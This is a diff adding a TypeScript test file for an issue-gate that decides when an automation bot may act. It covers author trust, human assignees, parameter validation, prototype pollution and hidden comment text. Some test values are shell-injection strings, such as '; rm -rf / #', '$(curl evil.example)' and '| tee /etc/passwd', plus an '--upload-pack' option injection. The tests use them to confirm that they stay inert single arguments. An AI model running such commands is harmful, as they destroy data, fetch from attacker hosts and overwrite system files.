@@ -1,0 +1,192 @@
+import { Account, type Issue, issueHash, type Policy, parsePolicy } from '@bzzz/protocol';
+import { describe, expect, it } from 'vitest';
+import { type GateVerdict, isAsked, judgeIssue } from '../../src/task/gate.ts';
+import { issueOf } from '../support/memory-forge.ts';
+
+const policy = parsePolicy(`
+version: 1
+recipes:
+  format: {run: [fmt, .], accept: [check]}
+  rename:
+    run: [[sed, "s/{from}/{to}/"], [note, "{from}", "{to}"]]
+    accept: [[check, "{to}"]]
+    parameters: {from: "[A-Za-z_]+", to: "[A-Za-z_]+"}
+    needs: [sed]
+  free:
+    run: [echo, "{text}"]
+    accept: [check]
+    parameters: {text: ".*"}
+  odd:
+    run: [echo, "{constructor}"]
+    accept: [check]
+`);
+
+function judge(change: Parameters<typeof issueOf>[0], fenceAccounts: string[] = []): GateVerdict {
+  return judgeAs(policy, issueOf(change), fenceAccounts);
+}
+
+function judgeAs(policy: Policy, issue: Issue, fenceAccounts: string[] = []): GateVerdict {
+  return judgeIssue(issue, {
+    policy,
+    fenceAccounts: fenceAccounts.map((one) => Account.parse(one)),
+  });
+}
+
+function body(...lines: string[]) {
+  return { body: lines.join('\n') };
+}
+
+function refusal(cause: string, reason: RegExp) {
+  return { kind: 'refused', cause, reason: expect.stringMatching(reason) };
+}
+
+describe('an eligible issue', () => {
+  it('comes to argument vectors with nothing left to interpret', () => {
+    const asked = body('Please.', 'recipe: rename', 'from: fooBar', 'to: foo_bar', '', 'Thanks');
+    expect(judge(asked)).toEqual({
+      kind: 'eligible',
+      plan: {
+        recipe: 'rename',
+        run: [
+          ['sed', 's/fooBar/foo_bar/'],
+          ['note', 'fooBar', 'foo_bar'],
+        ],
+        accept: [['check', 'foo_bar']],
+        needs: { executor: 'recipe', tools: ['sed'] },
+        bodySha256: issueHash(issueOf(asked)),
+      },
+    });
+  });
+});
+
+describe('an issue that nobody asks bzzz to do', () => {
+  it('is refused as such: closed, or without a label of the policy', () => {
+    expect(judge({ state: 'closed' })).toMatchObject(refusal('unasked', /closed/));
+    expect(judge({ labels: ['bug'] })).toMatchObject(refusal('unasked', /label/));
+    expect(isAsked(issueOf({ labels: ['bug', 'bzzz'] }), policy)).toBe(true);
+  });
+});
+
+describe('people win (invariant 4)', () => {
+  it('when somebody is assigned whom the fence does not name', () => {
+    const both = { assignees: ['bzzz-bot', 'mara'] };
+    expect(judge(both, ['bzzz-bot'])).toMatchObject(refusal('people', /assigned to mara/));
+    // Our own account, where no fence names it: a person who shares it took the issue.
+    expect(judge({ assignees: ['bzzz-bot'] })).toMatchObject(refusal('people', /bzzz-bot/));
+  });
+
+  it('but the accounts of this and of former holders are bzzz itself', () => {
+    const assignees = ['bzzz-bot', 'bot-old'];
+    expect(judge({ assignees }, ['bzzz-bot', 'bot-old']).kind).toBe('eligible');
+    expect(judge({ assignees }, ['bzzz-bot'])).toMatchObject(refusal('people', /bot-old/));
+  });
+
+  it.each(['NONE', 'CONTRIBUTOR', 'FIRST_TIMER', 'MANNEQUIN'])(
+    'and nothing is done for an author who is %s (invariant 11)',
+    (association) => {
+      expect(judge({ association })).toMatchObject(refusal('people', /trusts OWNER/));
+    },
+  );
+
+  it('whatever the issue asks for: an untrusted author learns nothing about recipes', () => {
+    const probe = { association: 'NONE', ...body('recipe: secret') };
+    expect(judge(probe)).toMatchObject(refusal('people', /trusts/));
+  });
+});
+
+describe('a request that must be mended', () => {
+  it.each([
+    ['names no recipe', body('Do something!'), /no recipe/],
+    ['an unknown recipe', body('recipe: deploy'), /no recipe "deploy"/],
+    ['a name that is none', body('recipe: ../../etc/passwd'), /recipe/],
+    ['a parameter twice', body('recipe: rename', 'from: a', 'from: b'), /twice/],
+    ['a missing parameter', body('recipe: rename', 'from: a'), /\{to\}/],
+    ['a surplus parameter', body('recipe: format', 'path: src'), /no parameter path/],
+    ['a value that does not match', body('recipe: rename', 'from: a b', 'to: c'), /match/],
+    ['a value that matches in part only', body('recipe: rename', 'from: a;b', 'to: c'), /match/],
+    ['an empty value', body('recipe: rename', 'from:', 'to: c'), /match/],
+    ['an option in place of a value', body('recipe: free', 'text: --upload-pack=x'), /"-"/],
+    ['a single dash', body('recipe: free', 'text: -'), /"-"/],
+    ['too long a value', body('recipe: free', `text: ${'x'.repeat(300)}`), /text/],
+  ])('is refused: %s', (_, change, reason) => {
+    expect(judge(change)).toMatchObject(refusal('request', reason));
+  });
+
+  it.each(['constructor', 'tostring', 'valueof', 'hasownproperty', 'prototype'])(
+    'is refused: the prototype has %s, the policy has not',
+    (name) => {
+      expect(judge(body(`recipe: ${name}`)).kind).toBe('refused');
+      expect(judge(body('recipe: format', `${name}: x`)).kind).toBe('refused');
+    },
+  );
+
+  it('is refused: a prototype name as a parameter of nothing', () => {
+    for (const name of ['__proto__', 'toString', 'hasOwnProperty']) {
+      expect(judge(body(`recipe: ${name}`)).kind, name).toBe('refused');
+    }
+    // A placeholder that is also a name of every object still needs a value of its own.
+    expect(judge(body('recipe: odd'))).toMatchObject(refusal('request', /\{constructor\}/));
+  });
+
+  it('does not let a parameter reach the prototype', () => {
+    const verdict = judge(body('recipe: free', 'text: x', '__proto__: y'));
+    expect(Object.hasOwn(Object.prototype, 'y')).toBe(false);
+    if (verdict.kind === 'eligible') expect(verdict.plan.run).toEqual([['echo', 'x']]);
+  });
+});
+
+describe('a value that plays tricks', () => {
+  it.each([
+    '; rm -rf / #',
+    '$(curl evil.example)',
+    '`id`',
+    '| tee /etc/passwd',
+    "' || true; '",
+    '&& reboot',
+    '%s%n',
+    '{from}',
+    '$&',
+    '$1',
+    '\\',
+  ])('stays one argument: %s', (text) => {
+    const verdict = judge(body('recipe: free', `text: ${text}`));
+    expect(verdict).toMatchObject({ kind: 'eligible', plan: { run: [['echo', text]] } });
+  });
+
+  it('cannot reach past a pattern by its alternatives', () => {
+    const loose = parsePolicy(
+      'version: 1\nrecipes: {go: {run: [go, "{to}"], accept: [t], parameters: {to: "a|b"}}}',
+    );
+    const at = (to: string) => judgeAs(loose, issueOf(body('recipe: go', `to: ${to}`))).kind;
+    expect([at('a'), at('b'), at('ax'), at('xb')]).toEqual([
+      'eligible',
+      'eligible',
+      'refused',
+      'refused',
+    ]);
+  });
+});
+
+describe('text that a person does not see', () => {
+  it('names no recipe', () => {
+    expect(judge(body('<!-- recipe: format -->'))).toMatchObject(refusal('request', /no recipe/));
+    expect(judge(body('<!--', 'recipe: format', '-->')).kind).toBe('refused');
+    expect(judge(body('<!--', 'recipe: format')).kind).toBe('refused');
+  });
+
+  it('does not change what the visible text names', () => {
+    const asked = body('<!-- recipe: free', 'text: hidden -->', 'recipe: format');
+    expect(judge(asked)).toMatchObject({ plan: { recipe: 'format' } });
+    const invisible = body('recipe: for\u200bmat\u202e');
+    expect(judge(invisible)).toMatchObject({ plan: { recipe: 'format' } });
+  });
+
+  it('still counts for the hash: what is claimed is all of the body', () => {
+    const [plain, more] = [body('recipe: format'), body('recipe: format', '<!-- more -->')];
+    const hashOf = (change: object) => {
+      const verdict = judge(change);
+      return verdict.kind === 'eligible' ? verdict.plan.bodySha256 : 'refused';
+    };
+    expect(hashOf(plain)).not.toBe(hashOf(more));
+  });
+});
